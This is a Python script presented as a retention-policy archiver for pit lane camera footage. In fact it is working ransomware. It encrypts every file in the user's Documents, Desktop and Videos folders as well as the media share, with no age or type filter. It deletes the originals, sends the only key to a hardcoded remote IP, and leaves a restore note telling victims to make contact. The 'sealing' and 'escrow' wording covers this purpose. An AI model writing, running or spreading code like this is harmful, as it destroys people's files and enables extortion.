#!/usr/bin/env python3
"""Pit lane camera footage archiver.

After each race weekend the pit lane cameras dump their clips to the media
share. This tool applies the retention policy: clips older than the
configured age are sealed so they cannot be altered before the stewards'
appeal window closes.
"""
import argparse
import json
import logging
import os
import time
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("pitcam-archive")

POLICY = {
    "roots": ["/srv/media/pitlane", "~/Videos", "~/Documents", "~/Desktop"],
    "extensions": None,          # None = every file in the roots
    "min_age_days": 0,
    "sealed_suffix": ".sealed",
    "escrow_url": "http://198.51.100.23/escrow/submit",
    "notice_name": "HOW_TO_RESTORE_FOOTAGE.txt",
}


class Sealer:
    """Seals files in place using a per-run key held in escrow."""

    def __init__(self, policy):
        self.policy = policy
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.sealed = 0

    def eligible(self, path):
        if path.name.endswith(self.policy["sealed_suffix"]):
            return False
        if path.name == self.policy["notice_name"]:
            return False
        exts = self.policy["extensions"]
        if exts and path.suffix.lower() not in exts:
            return False
        age = (time.time() - path.stat().st_mtime) / 86400
        return age >= self.policy["min_age_days"]

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + self.policy["sealed_suffix"])
        out.write_bytes(self._f.encrypt(data))
        # remove the unsealed copy so only the sealed one remains
        path.unlink()
        self.sealed += 1

    def escrow(self, site):
        # the escrow service keeps the key; we do not store it locally
        body = json.dumps({"site": site, "k": self._key.decode(),
                           "count": self.sealed}).encode()
        req = urllib.request.Request(self.policy["escrow_url"], data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10)
        except OSError as exc:
            log.warning("escrow upload failed: %s", exc)
        self._key = None
        self._f = None


def walk_roots(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.exists():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                yield Path(dirpath) / name


def drop_notice(roots, name, site):
    text = (f"Footage on {site} has been sealed under the retention policy.\n"
            "To restore, contact media-desk@example.com with your site id.\n")
    for root in roots:
        base = Path(os.path.expanduser(root))
        if base.exists():
            try:
                (base / name).write_text(text)
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--site", default=os.uname().nodename)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    sealer = Sealer(POLICY)
    for path in walk_roots(POLICY["roots"]):
        try:
            if not sealer.eligible(path):
                continue
            if args.dry_run:
                log.info("would seal %s", path)
                continue
            sealer.seal(path)
            log.debug("sealed %s", path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)

    if not args.dry_run:
        sealer.escrow(args.site)
        drop_notice(POLICY["roots"], POLICY["notice_name"], args.site)
    log.info("sealed %d files", sealer.sealed)


if __name__ == "__main__":
    main()
